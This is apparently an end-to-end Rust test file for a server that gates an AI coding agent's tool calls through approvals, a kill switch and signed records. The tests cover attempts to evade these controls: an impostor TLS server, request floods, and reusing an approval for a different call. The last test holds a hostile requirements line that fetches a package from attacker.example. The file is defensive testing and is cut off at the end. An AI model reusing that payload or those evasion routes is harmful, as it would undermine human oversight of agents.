#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]
//! The team server through its real binaries: `mandate-server` on SQLite and on a real
//! PostgreSQL server, the `mandate` hook and `mandate push` talking to it over
//! 127.0.0.1, and (when Chromium and node are here) a browser driving the pages.
//!
//! PostgreSQL tests create a database of their own on `$MANDATE_TEST_POSTGRES`
//! (default `postgres://root@127.0.0.1:5432`, trust auth) with `psql`, and drop it
//! afterwards. Without a reachable server they print that they were SKIPPED, unless
//! `MANDATE_E2E_REQUIRED` is set, in which case they fail.

use std::io::{BufRead, BufReader, Write};
use std::path::PathBuf;
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use mandate_project::remote::Server as Client;
use serde_json::{Value, json};

mod server_support;
use server_support::{
    Browser, CONTRACT, Database, POLICY, create_token, free_port, hook_answer, mandate_bin, psql,
    required, serve, server_bin, text, wait_until,
};

// ---------------------------------------------------------------------------------
// Server processes

struct ServerProcess {
    child: Option<Child>,
    port: u16,
    url: String,
    database: String,
    /// The CA a client checks the server's certificate against (TLS servers only).
    ca: Option<PathBuf>,
    /// An admin's token, made with the first token, when the team policy is pushed.
    admin: std::cell::OnceCell<String>,
}

/// The team policy the tests run under: project `billing` (the example repository's),
/// its delegators, the reviewer groups its policy names, and the kill-switch holder.
fn team_policy() -> Value {
    json!({
        "kill_switch": ["sec@example.com"],
        "projects": {"billing": {
            "delegators": ["alice@example.com", "carol@example.com", "dave@example.com",
                           "mallory@example.com"],
            "reviewers": {"billing": ["bob@example.com"], "security": ["sec@example.com"]},
            "security": ["sec@example.com"]
        }}
    })
}

impl ServerProcess {
    fn start(database: &Database) -> ServerProcess {
        ServerProcess::start_on(&database.url(), free_port())
    }

    fn start_on(database: &str, port: u16) -> ServerProcess {
        ServerProcess::start_with(database, port, &[])
    }

    fn start_with(database: &str, port: u16, extra: &[&str]) -> ServerProcess {
        let (child, line) = serve(database, port, extra);
        let scheme = if extra.contains(&"--tls-cert") {
            "https"
        } else {
            "http"
        };
        assert!(
            line.contains(&format!("{scheme}://")),
            "server said {line:?}"
        );
        ServerProcess {
            child: Some(child),
            port,
            url: format!("{scheme}://127.0.0.1:{port}"),
            database: database.to_string(),
            ca: None,
            admin: std::cell::OnceCell::new(),
        }
    }

    /// A server with TLS: the certificate `tls` made for 127.0.0.1.
    fn start_tls(database: &str, port: u16, tls: &TestPki) -> ServerProcess {
        let mut server = ServerProcess::start_with(
            database,
            port,
            &[
                "--tls-cert",
                tls.cert.to_str().unwrap(),
                "--tls-key",
                tls.key.to_str().unwrap(),
            ],
        );
        server.ca = Some(tls.ca.clone());
        server
    }

    /// Stop it (SIGKILL: nothing in the process may matter).
    fn stop(&mut self) {
        if let Some(mut child) = self.child.take() {
            let _ = child.kill();
            let _ = child.wait();
        }
    }

    fn restart(&mut self) {
        self.stop();
        *self = ServerProcess::start_on(&self.database.clone(), self.port);
    }

    /// A token scoped to project `billing` (an admin's covers every project). The first
    /// one also pushes [`team_policy`].
    fn token(&self, user: &str, role: &str) -> String {
        self.admin();
        self.token_with(user, role, &["--project", "billing"])
    }

    fn token_with(&self, user: &str, role: &str, extra: &[&str]) -> String {
        create_token(&self.database, user, role, extra)
    }

    /// The admin's token; made, and the team policy pushed, on first use.
    fn admin(&self) -> String {
        self.admin
            .get_or_init(|| {
                let admin = self.token_with("root@example.com", "admin", &[]);
                let (status, body) = self
                    .client(&admin)
                    .post("/api/v1/policy", json!({"policy": team_policy()}));
                assert_eq!(status, 200, "{body}");
                admin
            })
            .clone()
    }

    fn client(&self, token: &str) -> Api {
        Api(Client::new(&self.url, Some(token.to_string()))
            .unwrap()
            .with_ca(self.ca.clone()))
    }
}

impl Drop for ServerProcess {
    fn drop(&mut self) {
        self.stop();
    }
}

struct Api(Client);

impl Api {
    fn get(&self, path: &str) -> (u16, Value) {
        let r = self
            .0
            .request("GET", path, None, Duration::from_secs(20))
            .unwrap();
        (r.status, r.json())
    }

    fn post(&self, path: &str, body: Value) -> (u16, Value) {
        let r = self
            .0
            .request("POST", path, Some(&body), Duration::from_secs(20))
            .unwrap();
        (r.status, r.json())
    }
}

// ---------------------------------------------------------------------------------
// A protected repository whose policy names the server

struct Repo {
    dir: tempfile::TempDir,
    root: PathBuf,
    records: PathBuf,
    token: String,
}

impl Repo {
    fn new(server_url: &str, token: &str) -> Repo {
        Repo::with_records(server_url, token, "")
    }

    /// `extra` goes under `[records]` in mandate.toml.
    fn with_records(server_url: &str, token: &str, extra: &str) -> Repo {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("repo");
        std::fs::create_dir_all(root.join(".mandate/contracts")).unwrap();
        std::fs::create_dir_all(root.join("billing/export/tests")).unwrap();
        std::fs::write(root.join("billing/export/filter.py"), "x = 1\n").unwrap();
        let records = dir.path().join("records");
        // An empty `server_url`: no records.server, so only the test itself pushes.
        let server_line = if server_url.is_empty() {
            String::new()
        } else {
            format!("\nserver = \"{server_url}\"{extra}")
        };
        std::fs::write(
            root.join("mandate.toml"),
            POLICY.replace(
                "dir = \"~/.local/share/mandate\"",
                &format!("dir = \"{}\"{server_line}", records.display()),
            ),
        )
        .unwrap();
        std::fs::write(root.join(".mandate/contracts/BILL-142.toml"), CONTRACT).unwrap();
        let root = std::fs::canonicalize(root).unwrap();
        let repo = Repo {
            dir,
            root,
            records,
            token: token.to_string(),
        };
        let out = repo.mandate(&["start", ".mandate/contracts/BILL-142.toml"]);
        assert!(out.status.success(), "{}", text(&out));
        repo
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut command = Command::new(mandate_bin());
        command
            .args(args)
            .current_dir(&self.root)
            .env("MANDATE_USER", "alice@example.com")
            .env("MANDATE_ORG_POLICY", self.dir.path().join("org.toml"))
            .env("MANDATE_TOKEN", &self.token)
            // Ask the server on every call, so a test sees a change at once.
            .env("MANDATE_SERVER_REFRESH_MS", "0");
        command
    }

    fn mandate(&self, args: &[&str]) -> Output {
        self.command(args).output().unwrap()
    }

    fn hook(&self, name: &str, fields: Value) -> Value {
        let mut event = json!({"session_id": "s1", "transcript_path": "/dev/null",
                               "cwd": self.root, "hook_event_name": name});
        for (k, v) in fields.as_object().unwrap() {
            event[k] = v.clone();
        }
        hook_answer(
            self.command(&["hook", "claude-code", "--root"])
                .arg(&self.root),
            &event,
        )
    }

    fn pre(&self, id: &str, tool: &str, input: Value) -> (String, String) {
        let answer = self.hook(
            "PreToolUse",
            json!({"tool_name": tool, "tool_use_id": id, "tool_input": input}),
        );
        let out = &answer["hookSpecificOutput"];
        (
            out["permissionDecision"].as_str().unwrap_or("").to_string(),
            out["permissionDecisionReason"]
                .as_str()
                .unwrap_or("")
                .to_string(),
        )
    }

    fn read(&self, id: &str) -> (String, String) {
        self.pre(id, "Read", json!({"file_path": "billing/export/filter.py"}))
    }

    fn run_id(&self) -> String {
        std::fs::read_dir(self.records.join("runs"))
            .unwrap()
            .next()
            .unwrap()
            .unwrap()
            .file_name()
            .to_string_lossy()
            .to_string()
    }

    fn local_entries(&self) -> u64 {
        std::fs::read_to_string(
            self.records
                .join("runs")
                .join(self.run_id())
                .join("log.jsonl"),
        )
        .unwrap()
        .lines()
        .count() as u64
    }

    fn push(&self) -> Output {
        self.mandate(&["push"])
    }
}

// ---------------------------------------------------------------------------------
// Scenarios, each run on SQLite and on PostgreSQL

/// Records, roles, approvals and the kill switch, end to end.
fn records_roles_approvals_and_kill_switch(database: &Database) {
    let mut server = ServerProcess::start(database);
    let alice = server.token("alice@example.com", "developer");
    let bob = server.token("bob@example.com", "reviewer");
    let sec = server.token("sec@example.com", "security");
    let carol = server.token("carol@example.com", "developer");
    let repo = Repo::new(&server.url, &alice);

    assert_eq!(repo.read("t1").0, "allow");
    assert_eq!(
        repo.pre("t2", "Read", json!({"file_path": ".env"})).0,
        "deny"
    );
    let (decision, reason) = repo.pre(
        "t3",
        "Write",
        json!({"file_path": "billing/requirements.txt", "content": "stripe==9\n"}),
    );
    assert_eq!(decision, "deny", "{reason}");
    assert!(reason.contains("approval"), "{reason}");
    let out = repo.push();
    assert!(out.status.success(), "{}", text(&out));
    let run_id = repo.run_id();

    // Nothing anonymous reads or writes.
    let anonymous = Api(Client::new(&server.url, None).unwrap());
    assert_eq!(anonymous.get("/api/v1/runs").0, 401);
    assert_eq!(
        anonymous
            .post(&format!("/api/v1/runs/{run_id}/entries"), json!({}))
            .0,
        401
    );
    let (status, _) = server.client("mdt_not-a-token").get("/api/v1/runs");
    assert_eq!(status, 401);

    // The run arrived, checked.
    let (status, run) = server.client(&bob).get(&format!("/api/v1/runs/{run_id}"));
    assert_eq!(status, 200, "{run}");
    assert_eq!(run["run"]["entries"], json!(repo.local_entries()));
    assert_eq!(run["run"]["task_id"], "BILL-142");
    assert_eq!(run["run"]["delegated_by"], "alice@example.com");
    assert_eq!(run["run"]["owner"], "alice@example.com");
    assert_eq!(
        run["signer_enrolled"], true,
        "enrolled at alice's first push"
    );
    assert_eq!(run["run"]["denials"], 2);

    // Another developer may not push into alice's run, and neither may an admin.
    for token in [&carol, &server.admin()] {
        let (status, body) = server.client(token).post(
            &format!("/api/v1/runs/{run_id}/entries"),
            json!({"key": run["run"]["signer"], "from": 0, "entries": [], "project": "billing"}),
        );
        assert_eq!(status, 403, "{body}");
    }

    // The held call waits on the server for a named reviewer.
    let (_, pending) = server.client(&bob).get("/api/v1/approvals?status=pending");
    let pending = pending.as_array().unwrap();
    assert_eq!(pending.len(), 1, "{pending:?}");
    let id = pending[0]["id"].as_str().unwrap().to_string();
    // What bob decides on: this run, this call.
    let bound = json!({"run_id": pending[0]["run_id"], "digest": pending[0]["digest"]});
    let bound_decision = |fields: Value| {
        let mut body = bound.clone();
        for (k, v) in fields.as_object().unwrap() {
            body[k] = v.clone();
        }
        body
    };
    assert_eq!(pending[0]["reviewers"], json!(["bob@example.com"]));
    assert!(
        pending[0]["input"]
            .as_str()
            .unwrap()
            .contains("requirements.txt")
    );
    // Not the developer, not security, and not before a reviewer says so.
    for token in [&alice, &sec, &carol] {
        let (status, body) = server.client(token).post(
            &format!("/api/v1/approvals/{id}"),
            bound_decision(json!({"decision": "approve"})),
        );
        assert_eq!(status, 403, "{body}");
    }
    let (decision, _) = repo.pre(
        "t4",
        "Write",
        json!({"file_path": "billing/requirements.txt", "content": "stripe==9\n"}),
    );
    assert_eq!(decision, "deny");
    // A decision that names another run or call is refused.
    let (status, body) = server.client(&bob).post(
        &format!("/api/v1/approvals/{id}"),
        json!({"decision": "approve", "run_id": run_id, "digest": "0".repeat(64)}),
    );
    assert_eq!(status, 409, "{body}");
    let (status, body) = server.client(&bob).post(
        &format!("/api/v1/approvals/{id}"),
        bound_decision(json!({"decision": "approve", "note": "pinned version"})),
    );
    assert_eq!(status, 200, "{body}");
    let (status, _) = server.client(&bob).post(
        &format!("/api/v1/approvals/{id}"),
        bound_decision(json!({"decision": "deny"})),
    );
    assert_eq!(status, 409, "decided once");
    let (decision, reason) = repo.pre(
        "t5",
        "Write",
        json!({"file_path": "billing/requirements.txt", "content": "stripe==9\n"}),
    );
    assert_eq!(decision, "allow", "{reason}");
    assert!(reason.contains("bob@example.com"), "{reason}");

    // The kill switch: security only; the next hook call is refused.
    assert_eq!(
        repo.pre("t6", "mcp__jira__get_issue", json!({"issue": "BILL-142"}))
            .0,
        "allow"
    );
    let (status, _) = server.client(&bob).post(
        "/api/v1/killswitch",
        json!({"action": "disable", "target": "jira", "reason": "x"}),
    );
    assert_eq!(status, 403);
    let (status, body) = server.client(&sec).post(
        "/api/v1/killswitch",
        json!({"action": "disable", "target": "jira", "reason": "incident 7: token leak"}),
    );
    assert_eq!(status, 200, "{body}");
    let (decision, reason) = repo.pre("t7", "mcp__jira__get_issue", json!({"issue": "BILL-142"}));
    assert_eq!(decision, "deny", "{reason}");
    assert!(reason.contains("kill switch"), "{reason}");

    // Reviews: reviewers only, never the delegating user.
    let (status, _) = server.client(&alice).post(
        &format!("/api/v1/runs/{run_id}/reviews"),
        json!({"decision": "approve"}),
    );
    assert_eq!(status, 403);
    let (status, body) = server.client(&bob).post(
        &format!("/api/v1/runs/{run_id}/reviews"),
        json!({"decision": "request-changes", "note": "add a test for EU rows"}),
    );
    assert_eq!(status, 200, "{body}");

    // The server goes away: the last kill list holds, and no new approval can arrive.
    server.stop();
    let (decision, reason) = repo.pre("t8", "mcp__jira__get_issue", json!({"issue": "BILL-142"}));
    assert_eq!(decision, "deny", "the last known kill list holds: {reason}");
    let (decision, _) = repo.pre(
        "t9",
        "Write",
        json!({"file_path": "billing/requirements-dev.txt", "content": "pytest\n"}),
    );
    assert_eq!(decision, "deny", "held, and nobody can approve it now");
    assert_eq!(repo.read("t10").0, "allow", "in-scope work goes on");

    // Back: everything recorded meanwhile arrives, and the sealed run verifies there.
    server.restart();
    let out = repo.mandate(&["finish"]);
    assert!(out.status.success(), "{}", text(&out));
    let out = repo.push();
    assert!(out.status.success(), "{}", text(&out));
    let (status, report) = server
        .client(&bob)
        .get(&format!("/api/v1/runs/{run_id}/verify"));
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["ok"], true, "{report}");
    assert_eq!(report["entries"], json!(repo.local_entries()));
    assert_eq!(report["sealed"], json!(repo.local_entries()));
    let (_, run) = server.client(&bob).get(&format!("/api/v1/runs/{run_id}"));
    assert_eq!(run["run"]["status"], "incomplete");
    assert_eq!(run["reviews"][0]["decision"], "request-changes");
    let (_, all) = server.client(&bob).get("/api/v1/approvals");
    assert_eq!(all.as_array().unwrap().len(), 2, "{all}");
}

/// A CA and a certificate it signed for 127.0.0.1, made for one test (rcgen), as PEM
/// files in their own folder (outside any repository).
struct TestPki {
    _dir: tempfile::TempDir,
    ca: PathBuf,
    cert: PathBuf,
    key: PathBuf,
}

impl TestPki {
    fn new() -> TestPki {
        let dir = tempfile::tempdir().unwrap();
        let ca_key = rcgen::KeyPair::generate().unwrap();
        let mut ca_params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
        ca_params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        ca_params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "mandate test CA");
        let ca = ca_params.self_signed(&ca_key).unwrap();
        let key = rcgen::KeyPair::generate().unwrap();
        let params =
            rcgen::CertificateParams::new(vec!["127.0.0.1".to_string(), "localhost".to_string()])
                .unwrap();
        let cert = params.signed_by(&key, &ca, &ca_key).unwrap();
        let pki = TestPki {
            ca: dir.path().join("ca.pem"),
            cert: dir.path().join("cert.pem"),
            key: dir.path().join("key.pem"),
            _dir: dir,
        };
        std::fs::write(&pki.ca, ca.pem()).unwrap();
        std::fs::write(&pki.cert, cert.pem()).unwrap();
        std::fs::write(&pki.key, key.serialize_pem()).unwrap();
        pki
    }
}

/// Issue 17, H1 and M10: the team server over TLS, end to end (the hook, `mandate push`
/// and the API), and an impostor on the server's address without its certificate: the
/// hook refuses to talk to it, so the kill list holds and no token reaches it; status,
/// readiness and the session's start say what is wrong.
#[test]
fn tls_end_to_end_and_an_impostor_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let pki = TestPki::new();
    let port = free_port();
    let mut server = ServerProcess::start_tls(&database.url(), port, &pki);
    let alice = server.token("alice@example.com", "developer");
    let sec = server.token("sec@example.com", "security");
    let repo = Repo::with_records(
        &server.url,
        &alice,
        &format!("\nserver_ca = \"{}\"", pki.ca.display()),
    );

    // Over TLS: records go up, the kill switch comes down.
    assert_eq!(repo.read("t1").0, "allow");
    let out = repo.push();
    assert!(out.status.success(), "{}", text(&out));
    let (status, run) = server
        .client(&sec)
        .get(&format!("/api/v1/runs/{}", repo.run_id()));
    assert_eq!(status, 200, "{run}");
    let (status, body) = server.client(&sec).post(
        "/api/v1/killswitch",
        json!({"action": "disable", "target": "jira", "reason": "incident 42"}),
    );
    assert_eq!(status, 200, "{body}");
    let jira = json!({"issue": "BILL-142"});
    let (decision, reason) = repo.pre("t2", "mcp__jira__get_issue", jira.clone());
    assert_eq!(decision, "deny", "{reason}");
    assert!(reason.contains("kill switch"), "{reason}");
    let status = repo.mandate(&["status"]);
    assert!(
        text(&status).contains(&format!("server:   {}\n", server.url)),
        "{}",
        text(&status)
    );

    // An impostor takes the address: a server with an empty kill list and a certificate
    // of its own (self-signed for the same name), not from the team's CA.
    server.stop();
    let impostor_pki = TestPki::new();
    let impostor_db = Database::sqlite(&dir.path().join("impostor"));
    std::fs::create_dir_all(dir.path().join("impostor")).unwrap();
    let impostor = ServerProcess::start_tls(&impostor_db.url(), port, &impostor_pki);
    let (status, killed) = impostor
        .client(&impostor.token("x@example.com", "developer"))
        .get("/api/v1/killswitch");
    assert_eq!(
        (status, killed),
        (200, json!([])),
        "the impostor clears the kill list"
    );
    let (decision, reason) = repo.pre("t3", "mcp__jira__get_issue", jira.clone());
    assert_eq!(
        decision, "deny",
        "the impostor's empty kill list was believed: {reason}"
    );
    assert!(reason.contains("kill switch"), "{reason}");
    // Nothing was pushed to it (the handshake fails before the token is sent).
    let out = repo.push();
    assert!(!out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("TLS"), "{}", text(&out));
    let (_, runs) = impostor
        .client(&impostor.token("y@example.com", "admin"))
        .get("/api/v1/runs");
    assert_eq!(runs, json!([]), "the impostor received a run");
    // Said where people look: status, readiness, and once at the session's start.
    let status = repo.mandate(&["status"]);
    assert!(text(&status).contains("PROBLEM"), "{}", text(&status));
    let readiness = repo.mandate(&["readiness", "--format", "json"]);
    let readiness: Value = serde_json::from_slice(&readiness.stdout).unwrap();
    let link = readiness["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == "server_link")
        .cloned()
        .unwrap();
    assert_eq!(link["status"], "fail", "{link}");
    let start = repo.hook("SessionStart", json!({"source": "startup"}));
    assert!(
        start["systemMessage"]
            .as_str()
            .unwrap_or("")
            .contains("team server"),
        "{start}"
    );
    drop(impostor);

    // The real server is back: the link works again, and the held records go up.
    let server = ServerProcess::start_tls(&database.url(), port, &pki);
    let out = repo.push();
    assert!(out.status.success(), "{}", text(&out));
    let (_, run) = server
        .client(&sec)
        .get(&format!("/api/v1/runs/{}", repo.run_id()));
    assert_eq!(run["run"]["entries"], json!(repo.local_entries()));
}

/// Issue 17, H1: the link to PostgreSQL with `sslmode=verify-full`, against the
/// machine's PostgreSQL with TLS on (`scripts/postgres-tls.sh`, which `.ci/run` runs and
/// whose CA it names in `$MANDATE_TEST_POSTGRES_CA`). HTTPS to the clients on top.
#[test]
fn postgres_over_tls_with_verify_full() {
    let Some(ca) = std::env::var_os("MANDATE_TEST_POSTGRES_CA").map(PathBuf::from) else {
        assert!(
            !required(),
            "MANDATE_TEST_POSTGRES_CA is not set and MANDATE_E2E_REQUIRED is (.ci/run sets it)"
        );
        eprintln!("SKIPPED: no MANDATE_TEST_POSTGRES_CA (scripts/postgres-tls.sh prints it)");
        return;
    };
    let Some(database) = Database::postgres("postgres_over_tls_with_verify_full") else {
        return;
    };
    let Database::Postgres { base, name } = &database else {
        unreachable!()
    };
    let verified = format!(
        "{}?sslmode=verify-full&sslrootcert={}",
        database.url(),
        ca.display()
    );
    // A CA that did not sign the database's certificate: refused, nothing connects.
    let wrong = TestPki::new();
    let out = Command::new(server_bin())
        .args([
            "token",
            "create",
            "--user",
            "a@example.com",
            "--role",
            "admin",
        ])
        .args([
            "--database-url",
            &format!(
                "{}?sslmode=verify-full&sslrootcert={}",
                database.url(),
                wrong.ca.display()
            ),
        ])
        .output()
        .unwrap();
    assert!(!out.status.success(), "{}", text(&out));
    assert!(
        text(&out).to_lowercase().contains("certificate"),
        "{}",
        text(&out)
    );

    let pki = TestPki::new();
    let server = ServerProcess::start_tls(&verified, free_port(), &pki);
    let alice = server.token("alice@example.com", "developer");
    let repo = Repo::with_records(
        &server.url,
        &alice,
        &format!("\nserver_ca = \"{}\"", pki.ca.display()),
    );
    assert_eq!(repo.read("t1").0, "allow");
    let out = repo.push();
    assert!(out.status.success(), "{}", text(&out));
    let (_, run) = server
        .client(&alice)
        .get(&format!("/api/v1/runs/{}", repo.run_id()));
    assert_eq!(run["run"]["entries"], json!(repo.local_entries()));
    // Every connection the server holds to its database is encrypted.
    let (tls, plain) = {
        let row = psql(
            base,
            "postgres",
            &format!(
                "SELECT count(*) FILTER (WHERE s.ssl), count(*) FILTER (WHERE NOT s.ssl) \
                 FROM pg_stat_activity a JOIN pg_stat_ssl s USING (pid) WHERE a.datname = '{name}'"
            ),
        )
        .unwrap();
        let (tls, plain) = row.split_once('|').unwrap();
        (tls.parse::<u32>().unwrap(), plain.parse::<u32>().unwrap())
    };
    assert!(
        tls > 0 && plain == 0,
        "{tls} TLS and {plain} plain connections"
    );
}

/// The server process's peak resident memory, in KiB.
fn peak_rss_kib(server: &ServerProcess) -> u64 {
    let pid = server.child.as_ref().unwrap().id();
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap()
}

/// Issue 17, H4: anonymous callers cannot hold the server. Huge bodies without a token
/// are refused before they are read (before: the server buffered 16 × 60 MB, 903 MB of
/// memory, then said 401), a request head that never ends is cut off, and meanwhile
/// the kill-switch API answers at once.
#[test]
fn anonymous_slow_and_huge_requests_cost_little() {
    use std::io::Read as _;
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start(&database);
    let sec = server.token("sec@example.com", "security");
    let addr = format!("127.0.0.1:{}", server.port);
    let before = peak_rss_kib(&server);

    // A head that never ends, and a stalled body without a token.
    let mut stalled_head = std::net::TcpStream::connect(&addr).unwrap();
    stalled_head
        .write_all(b"GET /api/v1/runs HTTP/1.1\r\nHost: x\r\n")
        .unwrap();
    // 16 anonymous pushes that announce 60 MB each and send 4 MB.
    let huge: Vec<_> = (0..16)
        .map(|n| {
            let addr = addr.clone();
            std::thread::spawn(move || {
                let mut c = std::net::TcpStream::connect(&addr).unwrap();
                c.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
                let head = format!(
                    "POST /api/v1/runs/R-{n}/entries HTTP/1.1\r\nHost: x\r\n\
                     Content-Type: application/json\r\nContent-Length: 60000000\r\n\r\n"
                );
                c.write_all(head.as_bytes()).unwrap();
                let chunk = vec![b' '; 64 * 1024];
                for _ in 0..64 {
                    if c.write_all(&chunk).is_err() {
                        break; // refused and closed: good
                    }
                }
                let mut answer = String::new();
                let _ = c.read_to_string(&mut answer);
                answer
            })
        })
        .collect();
    // The kill switch answers meanwhile.
    let started = Instant::now();
    let (status, _) = server.client(&sec).get("/api/v1/killswitch");
    assert_eq!(status, 200);
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    for answer in huge {
        let answer = answer.join().unwrap();
        assert!(answer.starts_with("HTTP/1.1 401"), "{answer:?}");
    }
    let grown = peak_rss_kib(&server).saturating_sub(before);
    assert!(grown < 64 * 1024, "the server's memory grew by {grown} KiB");
    // The endless head is cut off by the server.
    stalled_head
        .set_read_timeout(Some(Duration::from_secs(20)))
        .unwrap();
    let started = Instant::now();
    let mut rest = Vec::new();
    let _ = stalled_head.read_to_end(&mut rest);
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "a half-sent head held its connection for {:?}",
        started.elapsed()
    );
}

/// Issue 17, M6: a server that answers one byte at a time, or without end, costs a hook
/// call at most the hook's deadline (400 ms), and the hook does not buffer the flood.
/// Before: 1.8 s per call for the trickle, ~1 GB buffered for the endless answer.
#[test]
fn a_slow_or_endless_server_keeps_the_hook_within_its_deadline() {
    use std::io::Read as _;
    for endless in [false, true] {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        std::thread::spawn(move || {
            for stream in listener.incoming().take(8) {
                let Ok(mut stream) = stream else { continue };
                std::thread::spawn(move || {
                    let mut head = [0u8; 4096];
                    let _ = stream.read(&mut head);
                    let _ = stream
                        .write_all(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n");
                    let flood = vec![b' '; 1024 * 1024];
                    for _ in 0..40 {
                        let sent = if endless {
                            stream.write_all(&flood)
                        } else {
                            std::thread::sleep(Duration::from_millis(300));
                            stream.write_all(b" ")
                        };
                        if sent.is_err() {
                            return;
                        }
                    }
                });
            }
        });
        let repo = Repo::new(&format!("http://127.0.0.1:{port}"), "mdt_x");
        for n in 0..3 {
            let started = Instant::now();
            assert_eq!(repo.read(&format!("t{n}")).0, "allow");
            let took = started.elapsed();
            assert!(
                took < Duration::from_millis(1000),
                "a hook call took {took:?} with a {} server",
                if endless { "flooding" } else { "trickling" }
            );
        }
        let status = repo.mandate(&["status"]);
        assert!(text(&status).contains("PROBLEM"), "{}", text(&status));
    }
}

/// Issue 17, M10: a server URL the hook cannot use is never dropped in silence.
#[test]
fn a_misconfigured_server_link_is_reported() {
    for (url, extra, says) in [
        ("http://mandate.example:8417", "", "only to this machine"),
        (
            "https://127.0.0.1:9",
            "\nserver_ca = \"ca.pem\"",
            "absolute path",
        ),
    ] {
        let repo = Repo::with_records(url, "mdt_x", extra);
        // The hook keeps working on the last known kill list (none here) ...
        assert_eq!(repo.read("t1").0, "allow");
        // ... and says what is wrong, where people look.
        let status = repo.mandate(&["status"]);
        assert!(
            text(&status).contains("PROBLEM") && text(&status).contains(says),
            "{}",
            text(&status)
        );
        let start = repo.hook("SessionStart", json!({"source": "startup"}));
        assert!(
            start["systemMessage"].as_str().unwrap_or("").contains(says),
            "{start}"
        );
    }
}

/// The pending approval requests in a repository's local store.
/// The pending requests this repository's record store holds (`mandate approvals` also
/// lists those held on other machines, marked `held_on: team server`).
fn local_pending(repo: &Repo) -> Vec<Value> {
    let out = repo.mandate(&["approvals", "--json"]);
    assert!(out.status.success(), "{}", text(&out));
    serde_json::from_slice::<Value>(&out.stdout)
        .unwrap()
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["held_on"] == "this machine")
        .cloned()
        .collect()
}

/// Issue 17, C1: a reviewer's approval covers the run and the call it was made for, and
/// nothing else. Carol's agent holds an evil write (request D). Carol then claims D in
/// another run of hers, for a harmless call that bob approves. Before: the server kept
/// whichever request with that id arrived first, answered a sync for any id, and the
/// hook applied the answer to whatever local request had that id, so the evil write
/// ran "approved by bob". Now the decision names run and digest, the hook compares
/// them, the server refuses the second request for a taken id, and sync answers only
/// the caller's own runs.
#[test]
fn approval_crossover_fails_by_construction() {
    let dir = tempfile::tempdir().unwrap();
    let database = Database::sqlite(dir.path());
    let server = ServerProcess::start(&database);
    let carol = server.token("carol@example.com", "developer");
    let dave = server.token("dave@example.com", "developer");
    let bob = server.token("bob@example.com", "reviewer");

    // Carol's run, not yet linked to the server: the evil write is held as request D.
    let victim = Repo::new("", &carol);
    let evil = json!({"file_path": "billing/requirements.txt",
                      "content": "evil-package==6.6.6 --index-url http://attacker.example/simple\n"});
    assert_eq!(victim.pre("t1", "Write", evil.clone()).0, "deny");
    let held = local_pending(&victim);
    assert_eq!(held.len(), 1, "{held:?}");
    let d = held[0]["id"].as_str().unwrap().to_string();

    // Another run of carol's claims D for a harmless call; bob approves what he sees.
    let squat = Repo::new("", &carol);
    let harmless = json!({"file_path": "billing/requirements.txt", "content": "stripe==9\n"});
    assert_eq!(squat.pre("s1", "Write", harmless.clone()).0, "deny");
    let harmless_request = &local_pending(&squat)[0];
    let squat_run = squat.records.join("runs").join(squat.run_id());
    mandate_record::RunLog::append_to(
        &squat_run,
        json!({"type": "approval.request", "id": d, "tool": "Write",
               "digest": harmless_request["digest"], "group": "billing",
               "reviewers": ["bob@example.com"], "tool_use_id": "s1",
               "status": "pending", "rule": "approval[0]", "reason": "dependency change"}),
    )
    .unwrap();
    let out = squat.mandate(&["push", "--server", &server.url]);
    assert!(out.status.success(), "{}", text(&out));
    let (_, pending) = server.client(&bob).get("/api/v1/approvals?status=pending");
    let row = pending
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["id"] == json!(d))
        .cloned()
        .expect("the squatting request is on the server");
    let (status, body) = server.client(&bob).post(
        &format!("/api/v1/approvals/{d}"),
        json!({"decision": "approve", "for_run": "true", "run_id": row["run_id"],
               "digest": row["digest"]}),
    );
    assert_eq!(status, 200, "{body}");

    // Carol's run now talks to the server: the evil write stays held.
    std::fs::write(
        victim.dir.path().join("org.toml"),
        format!("version = 1\n[records]\nserver = \"{}\"\n", server.url),
    )
    .unwrap();
    let (decision, reason) = victim.pre("t2", "Write", evil.clone());
    assert_eq!(
        decision, "deny",
        "an approval of another run's call let this one through: {reason}"
    );
    let still = local_pending(&victim);
    assert_eq!(still.len(), 1, "{still:?}");
    assert_eq!(still[0]["status"], "pending");
    // Carol's second machine: its key is not enrolled for her, so nothing of it is
    // taken until an admin enrols it.
    let out = victim.mandate(&["push", "--server", &server.url]);
    assert!(!out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("not enrolled"), "{}", text(&out));
    let key =
        mandate_record::keys::load_or_create(&victim.records.join("keys/signing.key")).unwrap();
    let (status, body) = server.client(&server.admin()).post(
        "/api/v1/keys",
        json!({"user": "carol@example.com", "project": "billing",
               "key": mandate_record::checkpoint::verifier_key_string("carol-laptop", &key.verifying_key())}),
    );
    assert_eq!(status, 200, "{body}");
    // And the server refuses the request that names a taken id, saying so.
    let out = victim.mandate(&["push", "--server", &server.url]);
    assert!(!out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("already taken"), "{}", text(&out));
    // Nobody else learns of a decision by naming its id.
    let (status, sync) = server
        .client(&dave)
        .get(&format!("/api/v1/sync?approvals={d}"));
    assert_eq!(status, 200, "{sync}");
